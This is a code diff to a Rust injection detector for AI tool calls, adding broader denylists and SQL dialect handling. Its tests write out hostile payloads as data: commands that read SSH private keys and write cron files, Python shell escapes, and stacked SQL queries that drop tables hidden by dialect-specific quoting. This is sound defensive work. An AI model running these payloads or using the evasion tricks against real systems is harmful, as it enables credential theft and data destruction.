@@ -7,12 +7,18 @@
 //!
 //! * `shell`: command chaining and pipes (`;`, `&&`, `||`, `|`, a newline), command
 //!   substitution (`` ` `` and `$(`), redirection (`>`, `<`), variable interpolation (`$VAR`,
-//!   `${VAR}`), and options that hand the program a command or a system path
+//!   `${VAR}`, `$0`, `$@`), and options that hand the program a command or a system path
 //!   (`-oProxyCommand=…`, `--upload-pack`, `--exec`, `--output=/etc/…`);
 //! * `code`: evaluation and process escapes (`__import__`, `eval(`, `exec(`, `os.system`,
-//!   `subprocess`, `child_process`, `Runtime.getRuntime`);
-//! * `sql`: stacked queries (a second statement after `;`, outside quotes and comments);
+//!   `import os`, `subprocess`, `child_process`, `Runtime.getRuntime`);
+//! * `sql`: stacked queries (a second statement after `;`, outside quotes and comments; when
+//!   the text quotes or comments as only some dialects do — `$$`, `#`, `/*!`, a backslash,
+//!   `--` without a space — any `;` before the end);
 //! * `template`: template syntax (`{{ }}`, `{% %}`, `${ }`, `<% %>`).
+//!
+//! Each kind is a best-effort denylist of constructs, not a parser of every shell, language or
+//! dialect: it stops the usual payloads, and a tool that must never run arbitrary input needs a
+//! sandbox or an allowlist of its own.
 //!
 //! Which tools: by name (`run_command`, `exec`, `shell`, `bash`, `eval`, `python`, `sql`,
 //! `query`, …, whole or as a part of the name), by schema (a string property named `command`,
@@ -148,21 +154,37 @@ impl Injection {
             return k.map(|k| (k, None));
         }
         let name = tool.name.as_str();
-        if let Some((_, k)) = BY_NAME.iter().find(|(n, _)| {
-            name.eq_ignore_ascii_case(n)
-                || name
-                    .split(['_', '-', '.'])
-                    .any(|part| part.eq_ignore_ascii_case(n))
-        }) {
+        if let Some((_, k)) = BY_NAME.iter().find(|(n, _)| has_part(name, n)) {
             return Some((*k, None));
         }
         let props = tool.input_schema.get("properties")?.as_object()?;
         BY_PROPERTY.iter().find_map(|(p, k)| {
             let declared = props.get(*p)?;
-            let stringy = declared.get("type").is_none_or(|t| t == "string");
+            // No type, `"string"`, or a list of types holding it (`["string", "null"]`).
+            let stringy = declared.get("type").is_none_or(|t| {
+                t == "string"
+                    || t.as_array()
+                        .is_some_and(|a| a.iter().any(|t| t == "string"))
+            });
             stringy.then_some((*k, Some(*p)))
         })
     }
+}
+
+/// Whether `part` (words joined by `_`) is `name` or a run of its `_`/`-`/`.`-separated parts,
+/// ignoring case: `run_command` in `run_command`, `ssh_run_command`, `ssh.run-command`.
+fn has_part(name: &str, part: &str) -> bool {
+    let sep = |c: u8| matches!(c, b'_' | b'-' | b'.');
+    let (n, p) = (name.as_bytes(), part.as_bytes());
+    (0..n.len()).any(|i| {
+        (i == 0 || sep(n[i - 1]))
+            && n.len() - i >= p.len()
+            && (i + p.len() == n.len() || sep(n[i + p.len()]))
+            && n[i..i + p.len()]
+                .iter()
+                .zip(p)
+                .all(|(a, b)| a.eq_ignore_ascii_case(b) || (*b == b'_' && sep(*a)))
+    })
 }
 
 /// The construct in `text` a tool of `kind` would execute, if any: its description.
@@ -195,11 +217,12 @@ fn shell(text: &str) -> Option<String> {
             return Some(what.to_owned());
         }
     }
-    let b = text.as_bytes();
-    if let Some(i) = text.find('$')
-        && b.get(i + 1)
-            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
-    {
+    // Every `$`: a name (`$HOME`), a positional or special parameter (`$0`, `$@`, `$$`, …).
+    if text.as_bytes().windows(2).any(|w| {
+        w[0] == b'$'
+            && (w[1].is_ascii_alphanumeric()
+                || matches!(w[1], b'_' | b'@' | b'*' | b'#' | b'?' | b'$' | b'!' | b'-'))
+    }) {
         return Some("variable interpolation `$NAME`".to_owned());
     }
     let lower = text.to_ascii_lowercase();
@@ -230,13 +253,30 @@ fn shell(text: &str) -> Option<String> {
 }
 
 fn code(text: &str) -> Option<String> {
-    let lower = text.to_ascii_lowercase();
-    [
+    // Lower case, runs of white space as one space, none before `(` (`eval (` is `eval(`).
+    let mut norm = String::with_capacity(text.len());
+    for c in text.chars().map(|c| c.to_ascii_lowercase()) {
+        if c.is_whitespace() {
+            if !norm.ends_with(' ') {
+                norm.push(' ');
+            }
+        } else {
+            if c == '(' && norm.ends_with(' ') {
+                norm.pop();
+            }
+            norm.push(c);
+        }
+    }
+    if let Some(p) = [
         "__import__",
         "eval(",
         "exec(",
         "os.system",
         "os.popen",
+        "os.exec",
+        "os.spawn",
+        "os.posix_spawn",
+        "from os import",
         "subprocess",
         "child_process",
         "process.binding",
@@ -245,11 +285,33 @@ fn code(text: &str) -> Option<String> {
         "ctypes",
     ]
     .iter()
-    .find(|p| lower.contains(*p))
-    .map(|p| format!("code that escapes to the system (`{p}`)"))
+    .find(|p| norm.contains(*p))
+    {
+        return Some(format!("code that escapes to the system (`{p}`)"));
+    }
+    // `import os`, `import sys, os`, `import os as o` (not `import osmnx`, `import os.path`).
+    norm.match_indices("import ").find_map(|(i, _)| {
+        let names = norm[i + 7..].split(';').next().unwrap_or("");
+        names
+            .split(',')
+            .any(|n| n.split_whitespace().next() == Some("os"))
+            .then(|| "code that escapes to the system (`import os`)".to_owned())
+    })
 }
 
 fn sql(text: &str) -> Option<String> {
+    let stacked = |after: &str| {
+        (!after.chars().all(|c| c.is_whitespace() || c == ';'))
+            .then(|| "a stacked query (a second statement after `;`)".to_owned())
+    };
+    // Quoting and comments that one dialect has and another has not (PostgreSQL's `$$` and
+    // `$tag$` strings, MySQL's `#` comments and `/*! … */` code, `--` without a space after
+    // it, backslash escapes, Oracle's `q'[…]'`): which text is quoted cannot be told, so
+    // nothing is stripped and any `;` before the end is a second statement.
+    if dialect_specific(text) {
+        let (_, after) = text.split_once(';')?;
+        return stacked(after);
+    }
     // Quoted strings and comments removed, then a `;` with another statement after it.
     let mut plain = String::with_capacity(text.len());
     let mut chars = text.chars().peekable();
@@ -284,8 +346,30 @@ fn sql(text: &str) -> Option<String> {
         }
     }
     let (_, after) = plain.split_once(';')?;
-    (!after.trim().trim_matches(';').trim().is_empty())
-        .then(|| "a stacked query (a second statement after `;`)".to_owned())
+    stacked(after)
+}
+
+/// Whether `text` quotes or comments in a way only some SQL dialects read so (see [`sql`]).
+fn dialect_specific(text: &str) -> bool {
+    let b = text.as_bytes();
+    let dollar_quote = b.iter().enumerate().any(|(i, &c)| {
+        c == b'$' && {
+            // `$$`, or `$tag$` with a tag of letters, digits and `_` not starting with a digit.
+            let tag = b[i + 1..]
+                .iter()
+                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
+                .count();
+            b.get(i + 1 + tag) == Some(&b'$') && !b.get(i + 1).is_some_and(u8::is_ascii_digit)
+        }
+    });
+    let dash_comment = b
+        .windows(3)
+        .any(|w| w[0] == b'-' && w[1] == b'-' && !w[2].is_ascii_whitespace());
+    let q_quote = b.windows(2).enumerate().any(|(i, w)| {
+        matches!(w, [b'q' | b'Q', b'\''])
+            && (i == 0 || !b[i - 1].is_ascii_alphanumeric() || matches!(b[i - 1], b'n' | b'N'))
+    });
+    dollar_quote || dash_comment || q_quote || text.contains(['#', '\\']) || text.contains("/*!")
 }
 
 fn template(text: &str) -> Option<String> {
@@ -369,6 +453,9 @@ mod tests {
             "git clone --upload-pack=touch /tmp/x repo",
             "curl --output=/etc/cron.d/x http://x",
             "sleep 100 &",
+            // Review finding: only the first `$` was looked at.
+            "cat $0 $HOME/.ssh/id_rsa",
+            "echo cost $ 5 $@",
         ] {
             assert!(shell(bad).is_some(), "{bad}");
         }
@@ -387,14 +474,32 @@ mod tests {
             "import subprocess; subprocess.run(['id'])",
             "require('child_process').exec('id')",
             "eval(input())",
+            // Review finding: white space before `(` and `os` imported by name.
+            "eval (input())",
+            "exec\t(s)",
+            "from os import system; system('id')",
+            "import os\nos.execv('/bin/sh', ['sh'])",
+            "import sys, os",
+            "import os as o; o.system('id')",
         ] {
             assert!(code(bad).is_some(), "{bad}");
         }
         assert_eq!(code("print(sum(range(10)))"), None);
+        assert_eq!(code("import osmnx\nimport os.path"), None);
+        assert_eq!(code("evaluate (x)"), None);
         for bad in [
             "SELECT * FROM users WHERE id = 5; DROP TABLE users",
             "select 1;delete from t",
             "SELECT 1 /* x */ ; UPDATE t SET a = 1",
+            // Review finding: quoting and comments of one dialect hid a second statement.
+            "SELECT $$'$$; DROP TABLE t; --'",
+            "SELECT $q$'$q$; DROP TABLE t; --'",
+            "SELECT 1 #'\n; DROP TABLE t",
+            "SELECT 1 --1; DROP TABLE t",
+            "SELECT 1 /*! ; DROP TABLE t */",
+            "SELECT 'a\\'' ; DROP TABLE t; -- '",
+            "SELECT q'[a']' ; DROP TABLE t; --'",
+            "SELECT 1; ; DROP TABLE t",
         ] {
             assert!(sql(bad).is_some(), "{bad}");
         }
@@ -403,6 +508,9 @@ mod tests {
             "SELECT name FROM users WHERE id = 5;",
             "SELECT 'a;b' FROM t",
             "SELECT * FROM t -- ; DROP TABLE t",
+            "SELECT name FROM users WHERE id = 5; ;",
+            "SELECT 'C:\\dir', '#1', $$x$$ FROM t;",
+            "SELECT 1 --",
         ] {
             assert_eq!(sql(good), None, "{good}");
         }
@@ -436,6 +544,33 @@ mod tests {
                 serde_json::json!({"name": "deploy", "inputSchema": {"type": "object", "properties": {"command": {"type": "string"}, "note": {"type": "string"}}}})
             ),
             Some((Kind::Shell, Some("command")))
+        );
+        // Review finding: a name of several words was found only as the whole name, and a
+        // property typed `["string", "null"]` was skipped.
+        for name in ["ssh_run_command", "remote.run-command", "RUN_COMMAND_v2"] {
+            assert_eq!(
+                k(&none, serde_json::json!({"name": name})),
+                Some((Kind::Shell, None)),
+                "{name}"
+            );
+        }
+        assert_eq!(
+            k(&none, serde_json::json!({"name": "rerun_commands"})),
+            None
+        );
+        assert_eq!(
+            k(
+                &none,
+                serde_json::json!({"name": "deploy", "inputSchema": {"type": "object", "properties": {"sql": {"type": ["string", "null"]}}}})
+            ),
+            Some((Kind::Sql, Some("sql")))
+        );
+        assert_eq!(
+            k(
+                &none,
+                serde_json::json!({"name": "deploy", "inputSchema": {"type": "object", "properties": {"code": {"type": ["integer", "null"]}}}})
+            ),
+            None
         );
         assert_eq!(k(&none, serde_json::json!({"name": "echo"})), None);
         assert_eq!(
